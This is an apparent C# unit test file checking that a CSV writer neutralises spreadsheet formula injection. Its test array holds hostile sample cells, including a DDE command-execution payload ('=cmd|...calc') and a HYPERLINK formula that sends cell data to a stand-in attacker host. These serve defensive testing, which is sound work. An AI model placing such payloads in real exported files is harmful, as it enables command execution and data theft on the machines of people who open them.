using System.Text;
using OrleansBackup.Domain.Documents;

namespace OrleansBackup.Domain.Tests.Documents;

/// <summary>No cell of a table that we write is a formula to a spreadsheet, however its name begins, and the table stays the same table.</summary>
public sealed class CsvTextTests
{
    private static readonly string[] Evil =
    [
        "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\u00A0=1", "\u200B=1", "\uFEFF=1", "\0=1", "\u202E=1", "\uFF1D1", "\uFF0B1", "\uFF0D1", "\uFF201",
        "=cmd|' /C calc'!A0", "=HYPERLINK(\"https://evil.example?\"&A1)", "a\t=1+1", "a;=1+1", "a,=1+1", "a|=1+1", "a\r\n=1+1", "\"\n=1", "\"=1", "a\"b",
    ];

    [Theory]
    [InlineData(','), InlineData(';')]
    public void No_name_becomes_a_formula_and_none_is_lost(char separator)
    {
        var text = new CsvText(separator).Row([.. Evil]).Row("next").ToString();

        var rows = Read(text, separator);
        Assert.Equal(2, rows.Count);
        Assert.Equal(Evil.Length, rows[0].Count);
        Assert.Equal(["next"], rows[1]);
        foreach (var (cell, evil) in rows[0].Zip(Evil))
        {
            Assert.Equal(evil, cell.StartsWith('\'') ? cell[1..] : cell);
            Assert.DoesNotContain(cell.SkipWhile(one => char.IsWhiteSpace(one) || char.IsControl(one) || one is '\u200B' or '\uFEFF' or '\u202E').Take(1), one => "=+-@\uFF1D\uFF0B\uFF0D\uFF20".Contains(one, StringComparison.Ordinal));
        }
    }

    /// <summary>Also in a program that takes another character for the end of a cell.</summary>
    [Theory]
    [InlineData(','), InlineData(';'), InlineData('\t'), InlineData('|')]
    public void Whatever_ends_a_cell_no_cell_begins_as_a_formula(char readBy)
    {
        foreach (var evil in Evil)
            foreach (var cell in Read(new CsvText().Row(evil).ToString(), readBy).SelectMany(row => row))
                Assert.False(cell is ['=' or '+' or '-' or '@', ..], $"{evil} read by {(int)readBy}: {cell}");
    }

    [Fact]
    public void Numbers_stay_numbers() => Assert.Equal("-5,-1.5\r\n", new CsvText().Cell(-5).Cell(-1.5m).EndRow().ToString());

    // RFC 4180, section 2, read by the letter.
    private static List<List<string>> Read(string text, char separator)
    {
        var (rows, row, cell, quoted) = (new List<List<string>>(), new List<string>(), new StringBuilder(), false);
        for (var at = 0; at < text.Length; at++)
        {
            if (quoted)
            {
                if (text[at] != '"')
                    cell.Append(text[at]);
                else if (at + 1 < text.Length && text[at + 1] == '"')
                    cell.Append(text[++at]);
                else
                    quoted = false;
            }
            else if (text[at] == '"' && cell.Length == 0)
                quoted = true;
            else if (text[at] == separator || text.AsSpan(at).StartsWith("\r\n"))
            {
                row.Add(cell.ToString());
                cell.Clear();
                if (text[at] == '\r')
                {
                    (rows, row) = ([.. rows, row], []);
                    at++;
                }
            }
            else
                cell.Append(text[at]);
        }
        Assert.False(quoted);
        return rows;
    }
}
